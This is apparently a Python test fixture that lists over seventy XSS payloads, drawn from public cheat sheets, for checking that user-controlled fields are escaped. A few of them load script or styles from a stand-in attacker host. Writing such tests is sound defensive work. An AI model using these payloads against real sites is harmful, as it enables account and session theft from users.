"""XSS payloads for every user-controlled field that is displayed.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet and known
mutation-XSS (mXSS) vectors. NUL bytes are left to the property-based tests: PostgreSQL
refuses them in text columns, so the forms reject them before they reach a model.
"""

PAYLOADS: list[str] = [
    # --- script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    "<<script>alert(1);//<</script>",
    # --- event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img/src/onerror=alert(1)>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>",
    # --- javascript: and data: URLs
    '<a href="javascript:alert(1)">klick</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "[klick](javascript:alert(1))",
    "[klick](  JAVASCRIPT:alert(1) )",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    # --- broken markup and mutation XSS
    '<img src="x',
    '<a href="/x" title="</a><script>alert(1)</script>">',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    # --- SVG and plugins
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    # --- encoded and Unicode tricks
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "<img src=x onerror=\\u0061lert(1)>",
    "+ADw-script+ADQ-alert(1)+ADw-/script+AD4-",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "{{ 7|add:7 }}{% debug %}<script>alert(1)</script>",
    # --- mentions
    "@<script>alert(1)</script>",
    "@leserin<img src=x onerror=alert(1)>",
    '@"><svg onload=alert(1)>',
    '@leserin"onmouseover="alert(1)',
    # --- URLs the linkifier sees
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/?q=<img src=x onerror=alert(1)>",
    'http://example.org/#"onmouseover="alert(1)',
    "https://evil.example/<svg/onload=alert(1)>",
    "www.example.org/'onmouseover='alert(1)'",
    "https://example.org/javascript:alert(1)",
]

assert len(PAYLOADS) >= 50
